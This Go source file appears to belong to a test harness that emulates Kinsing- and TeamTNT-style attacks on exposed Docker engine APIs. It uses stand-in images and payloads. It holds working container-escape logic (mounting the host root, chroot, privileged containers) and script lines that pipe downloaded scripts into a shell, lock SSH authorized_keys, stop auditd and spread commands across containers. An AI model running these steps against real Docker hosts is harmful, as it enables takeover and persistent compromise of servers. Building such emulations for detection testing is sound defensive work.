package main

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"time"
)

// stock is the image of all containers here. It is busybox with stand-ins: see
// procedures.Docker.
const stock = "sallyport.test/stock:1"

// engine is a Docker engine as somebody sees it who came by its open port.
type engine struct{ call }

type hostConfig struct {
	NetworkMode string
	Privileged  bool    `json:",omitempty"`
	Mounts      []mount `json:",omitempty"`
}

type mount struct {
	Type, Source, Target string
	ReadOnly             bool
	BindOptions          struct{ NonRecursive bool }
}

type container struct {
	Image      string
	Cmd        []string
	HostConfig hostConfig
}

// run creates a container and starts it.
func (e engine) run(ctx context.Context, name string, c container) (id string, err error) {
	b, err := e.do(ctx, http.MethodPost, "/v1.41/containers/create?"+url.Values{"name": {name}}.Encode(), "application/json", c)
	if err != nil {
		return "", err
	}
	var created struct{ ID string }
	if err := json.Unmarshal(b, &created); err != nil {
		return "", err
	}
	_, err = e.do(ctx, http.MethodPost, "/v1.41/containers/"+created.ID+"/start", "", nil)
	return created.ID, err
}

// runScript starts a container that runs a script by its shell.
func (e engine) runScript(ctx context.Context, name, script string) error {
	_, err := e.run(ctx, name, container{Image: stock, Cmd: []string{"/bin/sh", "-c", script}, HostConfig: hostConfig{NetworkMode: "host"}})
	return err
}

// look is what comes first: which daemon that is and what it runs.
func (e engine) look(ctx context.Context) error {
	for _, path := range []string{"/version", "/v1.41/info", "/v1.41/containers/json"} {
		if _, err := e.do(ctx, http.MethodGet, path, "", nil); err != nil {
			return err
		}
	}
	return nil
}

// awaitEnd waits until a container has ended.
func (e engine) awaitEnd(ctx context.Context, id string) error {
	_, err := e.do(ctx, http.MethodPost, "/v1.41/containers/"+id+"/wait", "", nil)
	return err
}

// kinsing starts a stock image that installs, fetches a script into a shell and
// stays, once as on Debian and once as on Alpine, where all of that is busybox.
func kinsing(ctx context.Context, args []string) error {
	e, source := engine{call{server: args[0]}}, args[1]
	if err := e.look(ctx); err != nil {
		return err
	}
	for _, v := range []struct{ name, script string }{
		{"kinsing-debian", "apt-get update && apt-get install -y curl cron; service cron start; curl -s SOURCE/d.sh | sh; curl -s SOURCE/tell/NAME; tail -f /dev/null"},
		{"kinsing-alpine", "apk add curl; wget -q -O - SOURCE/d.sh | sh; wget -q -O - SOURCE/tell/NAME; sleep 1000000"},
	} {
		script := strings.NewReplacer("SOURCE", source, "NAME", v.name).Replace(v.script)
		if err := e.runScript(ctx, "", script); err != nil {
			return err
		}
		if err := awaitTold(ctx, source, v.name); err != nil {
			return err
		}
	}
	return nil
}

// harmless is what is decoded into a shell on what the container takes for the
// host's root.
const harmless = "echo stand-in: nothing is done"

// teamtnt starts containers with the host's root, which is read-only and without
// what is mounted in it, and one that goes on from there. Not every machine lets
// containers be privileged; then it tries without, as the scripts do.
func teamtnt(ctx context.Context, args []string) error {
	e, source := engine{call{server: args[0], agent: "Docker-Client/20.10.0 (linux)"}}, args[1]
	if err := e.look(ctx); err != nil {
		return err
	}
	root := mount{Type: "bind", Source: "/", Target: "/host", ReadOnly: true}
	root.BindOptions.NonRecursive = true
	encoded := base64.StdEncoding.EncodeToString([]byte(harmless))
	for _, privileged := range []bool{true, false} {
		id, err := e.run(ctx, "", container{
			Image: stock, Cmd: []string{"chroot", "/host", "sh", "-c", "echo " + encoded + " | base64 -d | sh"},
			HostConfig: hostConfig{NetworkMode: "host", Privileged: privileged, Mounts: []mount{root}},
		})
		if err == nil {
			err = e.awaitEnd(ctx, id)
		}
		if err != nil && !privileged {
			return err
		}
	}
	script := "masscan 192.0.2.0/30 -p2375,2376,10250; standin worm " + args[0] +
		"; /usr/bin/chattr +i /root/.ssh/authorized_keys; systemctl stop auditd; curl -s " + source + "/tell/teamtnt; tail -f /dev/null"
	if err := e.runScript(ctx, "stock", script); err != nil {
		return err
	}
	return awaitTold(ctx, source, "teamtnt")
}

// worm runs a command in every container that is called victim.
func worm(ctx context.Context, args []string) error {
	e := engine{call{server: args[0], agent: "Docker-Client/20.10.0 (linux)"}}
	b, err := e.do(ctx, http.MethodGet, "/v1.41/containers/json", "", nil)
	if err != nil {
		return err
	}
	var all []struct {
		ID    string
		Names []string
	}
	if err := json.Unmarshal(b, &all); err != nil {
		return err
	}
	n := 0
	for _, c := range all {
		if len(c.Names) == 0 || !strings.HasPrefix(c.Names[0], "/victim") {
			continue
		}
		n++
		if err := e.exec(ctx, c.ID, "/bin/busybox", "id"); err != nil {
			return err
		}
	}
	if n < 3 {
		return fmt.Errorf("%d containers are called victim", n)
	}
	return nil
}

// exec runs a command in a container and waits for its end.
func (e engine) exec(ctx context.Context, id string, argv ...string) error {
	b, err := e.do(ctx, http.MethodPost, "/v1.41/containers/"+id+"/exec", "application/json", struct{ Cmd []string }{argv})
	if err != nil {
		return err
	}
	var created struct{ ID string }
	if err := json.Unmarshal(b, &created); err != nil {
		return err
	}
	if _, err := e.do(ctx, http.MethodPost, "/v1.41/exec/"+created.ID+"/start", "application/json", struct{ Detach bool }{true}); err != nil {
		return err
	}
	for {
		b, err := e.do(ctx, http.MethodGet, "/v1.41/exec/"+created.ID+"/json", "", nil)
		if err != nil {
			return err
		}
		var state struct{ Running bool }
		if err := json.Unmarshal(b, &state); err != nil || !state.Running {
			return err
		}
		pause(ctx, 20*time.Millisecond)
	}
}
